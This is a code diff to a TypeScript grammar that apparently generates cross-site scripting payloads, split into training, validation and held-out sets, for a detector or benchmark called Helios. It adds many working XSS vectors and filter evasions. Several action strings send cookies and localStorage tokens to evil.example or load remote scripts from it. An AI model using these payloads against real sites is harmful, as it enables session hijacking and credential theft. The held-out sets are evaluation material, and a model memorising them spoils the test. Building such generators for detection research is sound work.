@@ -1,13 +1,16 @@
 /**
  * Cross-site scripting payloads from a grammar written for Helios: a breakout (out of an attribute,
- * a tag or a script string), a vector (script tag, event handler on a tag, javascript: or data: URL,
- * CSS, script-string injection) carrying a JavaScript action, then optional evasions (case, spacing,
- * entities, percent-encoding). Held-out branches are tags, events and actions kept for evaluation.
+ * a tag, a comment or a script string), a vector (script tag, event handler on an HTML, SVG or
+ * custom tag, javascript: or data: URL, CSS, script-string injection, template expression, markdown
+ * link) carrying a JavaScript action, then optional evasions (case, spacing, entities, JavaScript
+ * escapes, percent-encoding once or twice, nested tags). Held-out branches are tags, events,
+ * actions and schemes kept for validation and test.
  */
 import { type Branches, base64, type Chooser, htmlEntities } from "./grammar";
 
 const BREAKOUTS: Branches<string> = {
   train: [
+    "",
     "",
     "",
     '">',
@@ -21,30 +24,70 @@ const BREAKOUTS: Branches<string> = {
     "\">'",
     "'\">",
     "</style>",
+    "\">'>",
+    "</iframe>",
+    "</xmp>",
+    "</template>",
+    "*/",
+    "--!>",
+    "</a>",
+    "</div>",
+    "\"'>",
   ],
+  valid: ["</noembed>", "</select>", "'-->"],
   held: ["</noscript>", '"]>', "</option></select>", "]]>"],
 };
 const ACTIONS: Branches<string> = {
   train: [
     "alert(1)",
     "alert('XSS')",
+    'alert("xss")',
     "alert(document.cookie)",
     "alert(document.domain)",
+    "alert(window.origin)",
     "prompt(1)",
+    "prompt(document.cookie)",
     "confirm(1)",
+    "confirm(document.domain)",
     "alert(String.fromCharCode(88,83,83))",
     "eval(atob('YWxlcnQoMSk='))",
+    "eval('al'+'ert(1)')",
     "document.location='http://evil.example/?c='+document.cookie",
+    "location.href='//evil.example/?'+document.cookie",
     "fetch('//evil.example/'+document.cookie)",
+    "fetch('https://evil.example',{method:'POST',body:localStorage.token})",
     "new Image().src='//x.example/?'+document.cookie",
     "alert`1`",
+    "prompt`1`",
     "top['al'+'ert'](1)",
+    "window['alert'](1)",
+    "parent.alert(1)",
+    "globalThis.alert(1)",
+    "(alert)(1)",
+    "alert?.(1)",
+    "[1].find(alert)",
+    "Function('alert(1)')()",
     "window.location='//evil.example'",
     "console.log(1)",
     "print()",
     "alert(/xss/)",
+    "alert(/xss/.source)",
     "eval(location.hash.slice(1))",
+    "document.write('<img src=//evil.example/'+document.cookie+'>')",
+    "document.body.innerHTML='<h1>hacked</h1>'",
+    "import('//evil.example/x.js')",
+    "onerror=alert;throw 1",
+    "throw onerror=alert,1",
+    "\\u0061lert(1)",
+    "al\\u0065rt(1)",
+    "eval('\\x61lert(1)')",
+    "unescape('%61lert(1)')",
+    "window.open('//evil.example')",
+    "xhr=new XMLHttpRequest();xhr.open('GET','//evil.example/'+document.cookie);xhr.send()",
+    "alert(localStorage.getItem('token'))",
+    "debugger",
   ],
+  valid: ["Reflect.apply(alert,null,[1])", "setInterval('alert(1)')", "queueMicrotask(alert)"],
   held: [
     "confirm`1`",
     "[].constructor.constructor('alert(1)')()",
@@ -57,13 +100,19 @@ const EVENT_TAGS: Branches<string> = {
   train: [
     "img src=x",
     "img src=1",
+    "img src=x:x",
+    "img src",
     "svg",
     "body",
     "input",
+    "input autofocus",
     "iframe",
     "video src=x",
+    "video><source",
     "audio src=x",
+    "select autofocus",
     "select",
+    "textarea autofocus",
     "textarea",
     "a href=#",
     "div",
@@ -97,7 +146,70 @@ const EVENT_TAGS: Branches<string> = {
     "p",
     "h1",
     "code",
+    "dialog open",
+    "meter",
+    "output",
+    "nav",
+    "article",
+    "section",
+    "header",
+    "footer",
+    "aside",
+    "main",
+    "b",
+    "i",
+    "u",
+    "s",
+    "em",
+    "strong",
+    "small",
+    "font",
+    "center",
+    "blink",
+    "abbr",
+    "address",
+    "blockquote",
+    "q",
+    "time",
+    "mark",
+    "del",
+    "ins",
+    "pre",
+    "hr",
+    "br",
+    "frame src=x",
+    "fieldset",
+    "legend",
+    "progress",
+    "caption",
+    "th",
+    "ul",
+    "ol",
+    "dl",
+    "area",
+    "map",
+    "menu",
+    "plaintext",
+    "listing",
+    "x",
+    "xss",
+    "foo",
+    "custom-tag",
+    "svg><circle r=40",
+    "svg><rect width=10",
+    "svg><g",
+    "svg><animateTransform",
+    "svg><use href=#x",
+    "svg><foreignObject",
+    "svg><image href=x",
+    "object type=text/html",
+    "link rel=import href=x",
+    "base",
+    "meta",
+    "input type=image src=x",
+    "input type=hidden accesskey=x",
   ],
+  valid: ["details", "slot", "ruby", "svg><path d=M0"],
   held: ["details open", "marquee", "keygen", "isindex", "frameset", "math"],
 };
 const EVENTS: Branches<string> = {
@@ -143,32 +255,96 @@ const EVENTS: Branches<string> = {
     "onprogress",
     "onunload",
     "onbeforeunload",
+    "onmousedown",
+    "onmouseup",
+    "onmouseleave",
+    "onpointerenter",
+    "onpointerleave",
+    "onpointermove",
+    "onpointerup",
+    "ontouchstart",
+    "ontouchend",
+    "ontouchmove",
+    "ondragstart",
+    "ondragend",
+    "ondragenter",
+    "ondragover",
+    "ondrop",
+    "oncut",
+    "onsearch",
+    "oninvalid",
+    "onreset",
+    "onshow",
+    "onstorage",
+    "onvolumechange",
+    "onwaiting",
+    "onseeked",
+    "onpause",
+    "onplaying",
+    "onloadeddata",
+    "onloadedmetadata",
+    "ondurationchange",
+    "ontimeupdate",
+    "onanimationiteration",
+    "ontransitionstart",
+    "ontransitionrun",
+    "onbegin",
+    "onend",
+    "onrepeat",
+    "onactivate",
+    "onbeforeactivate",
+    "onselectstart",
+    "onselectionchange",
+    "onfullscreenchange",
+    "onpagehide",
+    "ononline",
+    "onoffline",
+    "onformdata",
   ],
+  valid: ["onfocusout", "onafterprint", "onpointercancel", "oncuechange"],
   held: ["ontoggle", "onstart", "onpointerover", "onbeforeprint", "onfocusin"],
 };
 const URL_SCHEMES: Branches<(action: string) => string> = {
   train: [
     (a) => `javascript:${a}`,
     (a) => `JaVaScRiPt:${a}`,
+    (a) => `JAVASCRIPT:${a}`,
     (a) => `javascript://%0a${a}`,
+    (a) => `javascript://comment%0d%0a${a}`,
     (a) => `data:text/html;base64,${base64(`<script>${a}</script>`)}`,
     (a) => `data:text/html,<script>${a}</script>`,
+    (a) => `data:image/svg+xml;base64,${base64(`<svg onload="${a}"/>`)}`,
+    (a) => `data:text/javascript,${a}`,
     (a) => `vbscript:msgbox(${JSON.stringify(a)})`,
+    (a) => `javascript&colon;${a}`,
+    (a) => `&#x6a;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;:${a}`,
+    (a) => `javas&#99;ript:${a}`,
+    (a) => `%6a%61%76%61%73%63%72%69%70%74:${a}`,
   ],
+  valid: [(a) => `java\nscript:${a}`, (a) => `javascript&#58;${a}`, (a) => `\u0001javascript:${a}`],
   held: [(a) => `java\tscript:${a}`, (a) => `&#106;avascript:${a}`, (a) => ` javascript:${a}`],
 };
 const URL_TAGS: Branches<(url: string) => string> = {
   train: [
     (u) => `<a href="${u}">click</a>`,
+    (u) => `<a href='${u}'>x</a>`,
     (u) => `<iframe src="${u}"></iframe>`,
     (u) => `<iframe src=${u}>`,
     (u) => `<a href=${u}>x</a>`,
     (u) => `<form action="${u}"><input type=submit>`,
+    (u) => `<form><button formaction="${u}">x</button>`,
     (u) => `<object data="${u}">`,
     (u) => `<embed src="${u}">`,
     (u) => `<meta http-equiv="refresh" content="0;url=${u}">`,
     (u) => `<img src="${u}">`,
+    (u) => `<svg><a xlink:href="${u}"><text x=20 y=20>x</text></a>`,
+    (u) => `<svg><a href="${u}"><rect width=100 height=100 /></a></svg>`,
+    (u) => `<input type=image formaction=${u}>`,
+    (u) => `<script src="${u}"></script>`,
+    (u) => `[click](${u})`,
+    (u) => `![x](${u})`,
   ],
+  valid: [(u) => `<area href="${u}">`, (u) => `<embed code="${u}">`],
   held: [
     (u) => `<math><maction actiontype="statusline" xlink:href="${u}">x</maction></math>`,
     (u) => `<base href="${u}//">`,
@@ -176,7 +352,7 @@ const URL_TAGS: Branches<(url: string) => string> = {
 };
 
 function space(c: Chooser): string {
-  return c.pick([" ", " ", " ", "/", "\t", "\n", "%20", "  "]);
+  return c.pick([" ", " ", " ", "/", "\t", "\n", "%20", "  ", "\r", "%0a", "/x/"]);
 }
 
 function quoted(c: Chooser, value: string): string {
@@ -188,20 +364,27 @@ const FAMILIES: Readonly<Record<string, (c: Chooser) => string>> = {
   scriptTag: (c) => {
     const tag = c.chance(0.2) ? c.mixCase("script") : "script";
     if (c.chance(0.25))
-      return `<${tag} src=${quoted(c, c.pick(["//evil.example/x.js", "http://xss.example/a.js", "data:,alert(1)", "//14.rs"]))}></${tag}>`;
-    return `<${tag}${c.chance(0.2) ? space(c) + c.pick(["type=text/javascript", "defer", ">"]) : ""}>${c.branch(ACTIONS)}</${tag}>`;
+      return `<${tag} src=${quoted(c, c.pick(["//evil.example/x.js", "http://xss.example/a.js", "data:,alert(1)", "//14.rs", "https://10.0.0.1/x"]))}></${tag}>`;
+    return `<${tag}${c.chance(0.2) ? space(c) + c.pick(["type=text/javascript", "defer", ">", "async", "nonce=x"]) : ""}>${c.branch(ACTIONS)}</${tag}>`;
   },
   eventHandler: (c) => {
     const tag = c.branch(EVENT_TAGS);
-    const closer = c.pick([">", "/>", " >", "//", ""]);
-    return `<${c.chance(0.15) ? c.mixCase(tag) : tag}${space(c)}${c.branch(EVENTS)}=${quoted(c, c.branch(ACTIONS))}${closer}`;
+    const closer = c.pick([
+      ">",
+      "/>",
+      " >",
+      "//",
+      "",
+      `>${c.pick(["x", "click", ""])}</${tag.split(/[ >/]/)[0]}>`,
+    ]);
+    return `<${c.chance(0.15) ? c.mixCase(tag) : tag}${space(c)}${c.chance(0.1) ? c.mixCase(c.branch(EVENTS)) : c.branch(EVENTS)}${c.pick(["=", "=", " = ", "\n="])}${quoted(c, c.branch(ACTIONS))}${closer}`;
   },
   scriptUrl: (c) => c.branch(URL_TAGS)(c.branch(URL_SCHEMES)(c.branch(ACTIONS))),
   bareUrl: (c) => c.branch(URL_SCHEMES)(c.branch(ACTIONS)),
   attributeBreakout: (c) =>
-    `${c.pick(['"', "'", ""])}${space(c)}${c.branch(EVENTS)}=${quoted(c, c.branch(ACTIONS))}${c.pick(["", ' x="', " //", " a='"])}`,
+    `${c.pick(['"', "'", "", '" ', "' "])}${space(c)}${c.branch(EVENTS)}=${quoted(c, c.branch(ACTIONS))}${c.pick(["", ' x="', " //", " a='", ' autofocus x="', " style=animation-name:x"])}`,
   scriptString: (c) =>
-    `${c.pick(["';", '";', "';", "\\';", "');", '");', "'-", '"-', "'+", "</script><script>"])}${c.branch(ACTIONS)}${c.pick(["//", ";//", ";'", "-'", ";var a='", "</script>", ""])}`,
+    `${c.pick(["';", '";', "';", "\\';", "');", '");', "'-", '"-', "'+", "</script><script>", "`;", "'};", '\\";'])}${c.branch(ACTIONS)}${c.pick(["//", ";//", ";'", "-'", ";var a='", "</script>", "", "<!--", "+'"])}`,
   css: (c) =>
     c.pick([
       `<div style="background:url(javascript:${c.branch(ACTIONS)})">`,
@@ -210,17 +393,57 @@ const FAMILIES: Readonly<Record<string, (c: Chooser) => string>> = {
       `<style>body{background:url("javascript:${c.branch(ACTIONS)}")}</style>`,
       `<link rel=stylesheet href=${quoted(c, `javascript:${c.branch(ACTIONS)}`)}>`,
       `<x style="behavior:url(#default#time2)" onbegin=${quoted(c, c.branch(ACTIONS))}>`,
+      `<style>@keyframes x{}</style><div style="animation-name:x" onanimationstart="${c.branch(ACTIONS)}"></div>`,
+      `<p style="x:expression(${c.branch(ACTIONS)})">`,
     ]),
   templateOrDom: (c) =>
     c.pick([
       `{{constructor.constructor('${c.branch(ACTIONS)}')()}}`,
       `{{$on.constructor('${c.branch(ACTIONS)}')()}}`,
+      `{{$eval.constructor('${c.branch(ACTIONS)}')()}}`,
       `\${${c.branch(ACTIONS)}}`,
       `#"><img src=x onerror=${c.branch(ACTIONS)}>`,
+      `#<script>${c.branch(ACTIONS)}</script>`,
       `<svg><script>${c.branch(ACTIONS)}</script></svg>`,
+      `<svg><script href=data:,${c.branch(ACTIONS)} />`,
       `<svg><animate onbegin=${c.branch(ACTIONS)} attributeName=x dur=1s>`,
+      `<svg><set attributeName=href to=javascript:${c.branch(ACTIONS)} />`,
       `<xss id=x tabindex=1 onfocus=${c.branch(ACTIONS)}></xss>`,
+      `<iframe srcdoc="&lt;script&gt;${c.branch(ACTIONS)}&lt;/script&gt;">`,
+      `<div v-html="'<img src=x onerror=${c.branch(ACTIONS)}>'"></div>`,
+      `<div ng-app ng-csp><div ng-focus="x=$event.view.window;x.alert(1)" tabindex=0>`,
     ]),
+  nestedTag: (c) =>
+    // Filters that remove "<script>" once leave one behind.
+    c.pick([
+      `<scr<script>ipt>${c.branch(ACTIONS)}</scr</script>ipt>`,
+      `<<script>script>${c.branch(ACTIONS)}<</script>/script>`,
+      `<scr%00ipt>${c.branch(ACTIONS)}</script>`,
+      `<script\x20type="text/javascript">${c.branch(ACTIONS)}</script>`,
+      `<img src="x" alt="<script>" onerror="${c.branch(ACTIONS)}">`,
+      `<<img src=x onerror=${c.branch(ACTIONS)}//<`,
+      `<img """><script>${c.branch(ACTIONS)}</script>">`,
+      `<!--<img src="--><img src=x onerror=${c.branch(ACTIONS)}//">`,
+    ]),
+};
+
+/** Ways a payload reaches the page encoded: a URL, a double-decoding proxy, HTML or JavaScript escapes. */
+const ENCODINGS: Branches<(payload: string) => string> = {
+  train: [
+    (p) => encodeURIComponent(p),
+    (p) => encodeURIComponent(p).replaceAll("%20", "+"),
+    (p) => p.replaceAll("<", "%3C").replaceAll(">", "%3E"),
+    (p) => p.replaceAll("<", "%3c").replaceAll(">", "%3e").replaceAll('"', "%22"),
+    (p) => encodeURIComponent(encodeURIComponent(p)),
+    (p) => p.replaceAll("<", "%253C").replaceAll(">", "%253E"),
+    (p) => p.replaceAll("<", "\\u003c").replaceAll(">", "\\u003e"),
+    (p) => p.replaceAll("<", "\\x3c").replaceAll(">", "\\x3e"),
+    (p) => p.replace(/alert|prompt|confirm/, (m) => htmlEntities(m, false)),
+    (p) => p.replaceAll("(", "&lpar;").replaceAll(")", "&rpar;"),
+    (p) => p.replaceAll("(", "&#40;").replaceAll(")", "&#41;"),
+  ],
+  valid: [(p) => p.replaceAll("<", "%u003c").replaceAll(">", "%u003e"), (p) => p.replaceAll("<", "&#x3c")],
+  held: [],
 };
 
 /** The XSS families, by name. */
@@ -233,5 +456,6 @@ export function xssPayload(c: Chooser, family: string): string {
   const payload = `${breakout}${body}`;
   // Entity-encoding the inside of an attribute is one more evasion a browser undoes.
   if (c.chance(0.05)) return payload.replace(/alert/, (m) => htmlEntities(m, c.chance(0.5)));
+  if (c.chance(0.12)) return c.branch(ENCODINGS)(payload);
   return payload;
 }
